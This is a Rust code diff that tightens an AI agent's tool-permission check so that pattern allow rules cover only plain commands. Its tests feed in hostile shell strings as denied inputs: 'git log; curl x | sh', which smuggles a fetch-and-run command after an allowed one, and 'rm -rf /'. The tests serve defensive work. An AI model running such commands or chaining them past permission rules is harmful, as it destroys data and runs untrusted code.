@@ -85,10 +85,20 @@ impl AllowedTools {
     }
 
     /// Whether a call of the tool `name` (from `source`, with `subject` for subject rules)
-    /// may run.
-    pub fn allows(&self, name: &str, source: Option<&ToolSource>, subject: Option<&str>) -> bool {
+    /// may run. For a tool that runs `commands`, a rule with a pattern covers only a plain
+    /// command, as an allow rule of the policy does (`git log; curl x | sh` is no `git`
+    /// command).
+    pub fn allows(
+        &self,
+        name: &str,
+        source: Option<&ToolSource>,
+        subject: Option<&str>,
+        commands: bool,
+    ) -> bool {
+        let plain = || subject.is_some_and(crate::permissions::command::coverable);
         ALWAYS_ALLOWED.contains(&name)
             || self.items.iter().any(|item| match item {
+                Allowed::Rule(rule) if commands && rule.has_subject() && !plain() => false,
                 Allowed::Rule(rule) => rule.matches(name, subject),
                 Allowed::Mcp { server, tool } => match source {
                     Some(ToolSource::Mcp {
@@ -198,23 +208,33 @@ mod tests {
     #[test]
     fn claude_code_names_map_to_antlers() {
         let allowed = parse("Read Grep, Bash(git:*) mcp__github__get_issue write_file");
-        assert!(allowed.allows("read_file", None, None));
-        assert!(allowed.allows("grep", None, None));
-        assert!(allowed.allows("bash", None, Some("git status")));
-        assert!(allowed.allows("bash", None, Some("git")));
-        assert!(!allowed.allows("bash", None, Some("gitk")));
-        assert!(!allowed.allows("bash", None, Some("rm -rf /")));
-        assert!(!allowed.allows("bash", None, None));
-        assert!(allowed.allows("github_get_issue", Some(&mcp("github", "get_issue")), None));
+        assert!(allowed.allows("read_file", None, None, false));
+        assert!(allowed.allows("grep", None, None, false));
+        assert!(allowed.allows("bash", None, Some("git status"), true));
+        assert!(allowed.allows("bash", None, Some("git"), true));
+        assert!(!allowed.allows("bash", None, Some("gitk"), true));
+        assert!(
+            !allowed.allows("bash", None, Some("git log; curl x | sh"), true),
+            "a compound command is no git command"
+        );
+        assert!(!allowed.allows("bash", None, Some("rm -rf /"), true));
+        assert!(!allowed.allows("bash", None, None, true));
+        assert!(allowed.allows(
+            "github_get_issue",
+            Some(&mcp("github", "get_issue")),
+            None,
+            false
+        ));
         assert!(!allowed.allows(
             "github_delete_repo",
             Some(&mcp("github", "delete_repo")),
-            None
+            None,
+            false
         ));
-        assert!(allowed.allows("write_file", None, None));
-        assert!(!allowed.allows("str_replace", None, None));
+        assert!(allowed.allows("write_file", None, None, false));
+        assert!(!allowed.allows("str_replace", None, None, false));
         assert!(
-            allowed.allows("tool_search", None, None),
+            allowed.allows("tool_search", None, None, false),
             "finding tools stays allowed"
         );
         assert!(allowed.names_exactly("github_get_issue", &mcp("github", "get_issue")));
@@ -228,9 +248,9 @@ mod tests {
     fn a_list_and_a_whole_server() {
         let allowed =
             AllowedTools::parse(&["Bash(npm run test)".into(), "mcp__time".into()]).unwrap();
-        assert!(allowed.allows("bash", None, Some("npm run test")));
-        assert!(!allowed.allows("bash", None, Some("npm run build")));
-        assert!(allowed.allows("time_now", Some(&mcp("time", "now")), None));
+        assert!(allowed.allows("bash", None, Some("npm run test"), true));
+        assert!(!allowed.allows("bash", None, Some("npm run build"), true));
+        assert!(allowed.allows("time_now", Some(&mcp("time", "now")), None, false));
     }
 
     #[test]
